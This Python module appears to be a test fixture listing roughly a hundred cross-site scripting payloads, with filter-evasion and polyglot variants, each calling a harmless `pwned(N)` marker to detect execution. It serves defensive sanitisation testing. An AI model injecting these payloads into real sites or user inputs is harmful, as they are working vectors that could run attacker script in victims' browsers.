# ruff: noqa: E501  # a payload is not broken across lines
"""Texts that try to become code, collected for this product; each calls `pwned` with its number if it runs."""

_TEMPLATES = (
    # plain HTML
    "<script>pwned(N)</script>", "<ScRiPt>pwned(N)</sCrIpT>", "<script/x>pwned(N)</script>", "<script>pwned(N)//",
    "<script src=data:,pwned(N)></script>", "</script><script>pwned(N)</script>",
    "</textarea><script>pwned(N)</script>", "</title><script>pwned(N)</script>", "</style><script>pwned(N)</script>",
    "--><script>pwned(N)</script>", "]]><script>pwned(N)</script>", "<script type=module>pwned(N)</script>",
    # handlers
    "<img src=x onerror=pwned(N)>", "<img src=x onerror='pwned(N)'", "<img/src=x/onerror=pwned(N)>",
    '"><img src=x onerror=pwned(N)>', "'><img src=x onerror=pwned(N)>", "`><img src=x onerror=pwned(N)>",
    "<img src='x' onerror\n=pwned(N)>", "<img src=x onerror=&#112;wned(N)>", "<body onload=pwned(N)>",
    "<input autofocus onfocus=pwned(N)>", "<details open ontoggle=pwned(N)>", "<video src=x onerror=pwned(N)>",
    "<audio src=x onerror=pwned(N)>", "<video><source onerror=pwned(N)>", "<marquee onstart=pwned(N)>",
    "<style onload=pwned(N)></style>", "<div onmouseover=pwned(N)>移过来</div>", "<a autofocus onfocus=pwned(N) href>x",
    '" onmouseover="pwned(N)" x="', "' autofocus onfocus='pwned(N)", "x onpointerenter=pwned(N) ",
    "<p style='animation:a' onanimationstart=pwned(N)>",
    # SVG and MathML
    "<svg onload=pwned(N)>", "<svg><script>pwned(N)</script></svg>", "<svg/onload=pwned(N)//",
    "<svg><animate onbegin=pwned(N) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:pwned(N)><text y=9>x",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(N)>#x'>",
    "<svg><foreignObject><img src=x onerror=pwned(N)></foreignObject></svg>",
    "<math><mi xlink:href=javascript:pwned(N)>x", "<math><mtext><table><mglyph><style><img src=x onerror=pwned(N)>",
    # links, frames and what changes the page
    "javascript:pwned(N)", "JaVaScRiPt:pwned(N)", " javascript:pwned(N)", "java\tscript:pwned(N)",
    "javascript://example.invalid/%0apwned(N)", "javascript&colon;pwned(N)", "\x01javascript:pwned(N)",
    "data:text/html,<script>pwned(N)</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZChOKTwvc2NyaXB0Pg==",
    "vbscript:pwned(N)", "<a href=javascript:pwned(N)>点我</a>", "<iframe src=javascript:pwned(N)>",
    "<iframe srcdoc='<script>parent.pwned(N)</script>'>", "<object data=javascript:pwned(N)>",
    "<embed src=javascript:pwned(N)>", "<form action=javascript:pwned(N)><input type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(N)'>", "<base href=javascript:pwned(N)//>",
    "<link rel=stylesheet href=data:,*{x:expression(pwned(N))}>",
    # Markdown and mail
    "[点我](javascript:pwned(N))", "![x](x\"onerror=\"pwned(N))", "<javascript:pwned(N)>", "[a]: javascript:pwned(N)",
    "```html\n<img src=x onerror=pwned(N)>\n```", "Subject: x\r\nContent-Type: text/html\r\n\r\n<script>pwned(N)</script>",
    "From: <img src=x onerror=pwned(N)>@example.invalid", '"<script>pwned(N)</script>"@example.invalid',
    # file names
    "<img src=x onerror=pwned(N)>.png", "a.png\"onload=\"pwned(N)", "发票.pdf<svg onload=pwned(N)>.exe",
    # templates and expressions
    "{{constructor.constructor('pwned(N)')()}}", "${pwned(N)}", "#{pwned(N)}", "{{_openBlock.constructor('pwned(N)')()}}",
    "{% raw %}<script>pwned(N)</script>", "<%= pwned(N) %>", "__proto__", "v-html=pwned(N)",
    # unicode
    "＜script＞pwned(N)＜/script＞", "\u202e<script>pwned(N)</script>", "<scr\u200bipt>pwned(N)</scr\u200bipt>",
    "\ufeff<img src=x onerror=pwned(N)>", "\u2028<script>pwned(N)</script>", "<ſcript>pwned(N)</ſcript>",
    "\\u003cscript\\u003epwned(N)\\u003c/script\\u003e", "&lt;script&gt;pwned(N)&lt;/script&gt;",
    "&#60;img src=x onerror=pwned(N)&#62;", "%3Cscript%3Epwned(N)%3C/script%3E", "+ADw-script+AD4-pwned(N)+ADw-/script+AD4-",
    "<img src=x onerror=pwned(N)>" + "，很长" * 20,
)  # fmt: skip
PAYLOADS = tuple(template.replace("N", str(number)) for number, template in enumerate(_TEMPLATES))
# for fields that hold one text only: what breaks out of most places
POLYGLOTS = (
    "'\"><img src=x onerror=pwned(901)>", "</title><svg onload=pwned(902)>", "javascript:pwned(903)",
    "{{constructor.constructor('pwned(904)')()}}",
)  # fmt: skip


def within(limit: int) -> list[str]:
    """The payloads that a field of this length takes."""
    return [one for one in PAYLOADS if len(one) <= limit and one.strip()]
